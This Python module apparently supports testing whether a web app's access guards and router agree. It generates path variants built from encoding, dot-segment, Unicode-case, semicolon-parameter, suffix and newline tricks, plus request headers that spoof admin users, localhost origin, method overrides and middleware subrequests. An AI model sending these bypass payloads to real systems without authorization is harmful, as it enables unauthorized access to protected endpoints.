"""Write a path in forms that a guard and a router may interpret differently.

Every function takes a path in its normal form, and returns request targets as they appear in a request line:
ASCII, percent-encoded.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable, Iterator
from typing import NamedTuple
from urllib.parse import quote

CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
# U+0085 and the like are control characters too; these are what str.strip() takes off besides them.
SPACES = [" ", "\u00a0", "\u1680", "\u2003", "\u2028", "\u202f", "\u205f", "\u3000"]
# Characters that re.IGNORECASE equates with an ASCII letter.
LOOKALIKES = {"i": "\u0130\u0131I", "s": "\u017fS", "k": "\u212aK"}
VERBS = ["HEAD", "OPTIONS", "TRACE", "POST", "PUT", "PATCH", "DELETE", "CONNECT"]
ODD_VERBS = ["PROPFIND", "MKCOL", "REPORT", "QUERY", "PURGE", "FOO", "get", "Get", "gET", "post", "head"]


class Wire(NamedTuple):
    """One request. ``site``: the URLconf it is for; ``mount``: the prefix (SCRIPT_NAME) that the server takes off."""

    target: str
    method: str = "GET"
    headers: tuple[tuple[str, str], ...] = ()
    mount: str = ""
    site: str = ""


def wires(site: str, *targets: Iterable[str]) -> list[Wire]:
    """Plain GET requests, each target once."""
    return [Wire(target, site=site) for target in dict.fromkeys(one for many in targets for one in many)]


def encoded(text: str) -> str:
    return quote(text, safe="/;=:@!$&'()*+,~")


def _inserted(path: str, text: str, *, after: str = "/") -> Iterator[str]:
    """The path with ``text`` inserted after each slash in turn."""
    for place, character in enumerate(path[:-1]):
        if character == after:
            yield path[: place + 1] + text + path[place + 1 :]


def percent_encoded(path: str) -> Iterator[str]:
    """Percent-encode single characters, all of them, and slashes, with upper-case and lower-case digits."""
    everything = "".join(f"%{ord(character):02X}" for character in path[1:])
    yield from ("/" + everything, "/" + everything.lower(), path.replace("/", "%2F").replace("%2F", "/", 1))
    for place, character in enumerate(path):
        if place:
            code = f"%{ord(character):02x}"
            yield path[:place] + code + path[place + 1 :]
            yield path[:place] + code.upper() + path[place + 1 :]


def doubled_slashes(path: str) -> Iterator[str]:
    for slashes in ("/", "//", "%2F", "%2f%2F", "///////"):
        yield from _inserted(path, slashes)
    yield path.replace("/", "//")
    yield path + "/"
    yield path + "///"


def dot_segments(path: str) -> Iterator[str]:
    """Insert dot segments that have no effect, and detours that come back."""
    detours = ("./", "x/../", "x/y/../../", "x/./../", "../x/../", "x//../")
    for detour in detours:
        yield from _inserted(path, detour)
        yield from _inserted(path, detour.replace(".", "%2e"))
        yield from _inserted(path, detour.replace("../", ".%2E%2F"))
    for climb in ("/..", "/../..", "/%2e%2e/%2E%2e", "/x/..%2f.."):
        yield climb + path
    yield path + "."
    yield path + "x/.."


def padded(path: str, texts: Iterable[str]) -> Iterator[str]:
    """Insert ``texts`` at the start, middle and end of the first segment, and at the end of the path."""
    first, _, rest = path[1:].partition("/")
    for text in map(encoded, texts):
        yield f"/{text}{first}/{rest}"
        yield f"/{first}{text}/{rest}"
        yield path + text


def interrupted(path: str, texts: Iterable[str]) -> Iterator[str]:
    """Insert ``texts`` in the middle of the first segment."""
    for text in map(encoded, texts):
        yield path[:3] + text + path[3:]


def recased(path: str) -> Iterator[str]:
    """Change the case to all letters that ``re.IGNORECASE`` equates, including ``ı İ ſ`` and the Kelvin sign."""
    yield from (path.upper(), path.title(), path.title().swapcase(), path.swapcase())
    for place, character in enumerate(path):
        for other in LOOKALIKES.get(character, character.upper()):
            if other != character:
                yield encoded(path[:place] + other + path[place + 1 :])
    for place in (0, -1):
        yield encoded("".join(LOOKALIKES.get(character, character)[place] for character in path))


def unicode_forms(path: str) -> Iterator[str]:
    for form in ("NFC", "NFD", "NFKC", "NFKD"):
        text = unicodedata.normalize(form, path)
        yield from (encoded(text), encoded(text.upper()), encoded(text.title()))


def path_parameters(path: str) -> Iterator[str]:
    """Insert path parameters with semicolons, which servlet containers cut off and Django does not."""
    for text in (";/", "..;/", "x/..;/", ";x=1/", ";jsessionid=1/", "%3B/", "..%3b/", ".;/", ";%2f"):
        yield from _inserted(path, text)
    for text in (";", ";x", "%3Bx", ";.css", ";/", ";/x"):
        yield path + text


def suffixed(path: str) -> Iterator[str]:
    stem = path.rstrip("/")
    for suffix in (".json", ".html", ".php", ".css", ".JSON", "/index.html", "/.", "/x.js", "%2ejson"):
        yield stem + suffix
    for suffix in ("~", "!", ",", "=", "*", "'", "%22", "%25", "%3Fx", "%23x", "%5C", "&x=1", "@", "\u00fc"):
        yield stem + "/" + encoded(suffix).replace("%25", "%") + "/"


def newlines(path: str) -> Iterator[str]:
    for text in ("%0A", "%0D", "%0D%0A", "%0a%0A", "%0B", "%0C", "%C2%85", "%E2%80%A8", "%E2%80%A9", "%1C"):
        yield from (path + text, path.rstrip("/") + text, path.rstrip("/") + text + "/", path + text + "x")


def other_verbs(path: str) -> list[Wire]:
    return [Wire(path, method=verb) for verb in (*VERBS, *ODD_VERBS)]


def with_headers(path: str, elsewhere: str, site: str = "") -> list[Wire]:
    """Add headers that override the path, the method or the guard in some server, proxy or framework."""
    paths = ("X-Original-URL", "X-Rewrite-URL", "X-Original-URI", "X-Forwarded-Path", "X-Forwarded-Uri", "X-Path-Info")
    prefixes = ("X-Forwarded-Prefix", "X-Script-Name", "X-Forwarded-Script-Name", "X-Forwarded-Context")
    verbs = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
    people = {"X-User": "admin", "X-Role": "admin", "Remote-User": "admin", "X-Forwarded-User": "admin"}
    origin = {"X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1", "X-Forwarded-Host": "localhost"}
    subrequests = ("middleware", "src/middleware", ":".join(["middleware"] * 5), "pages/_middleware", "1")
    found = [(name, text) for name in paths for text in (elsewhere, "/", "//")]
    found += [(name, text) for name in prefixes for text in (elsewhere.rstrip("/"), "/")]
    found += [(name, verb) for name in verbs for verb in ("OPTIONS", "HEAD", "TRACE")]
    found += [("x-middleware-subrequest", text) for text in subrequests]
    found += [*people.items(), *origin.items()]
    return [Wire(path, headers=(one,), site=site) for one in found]
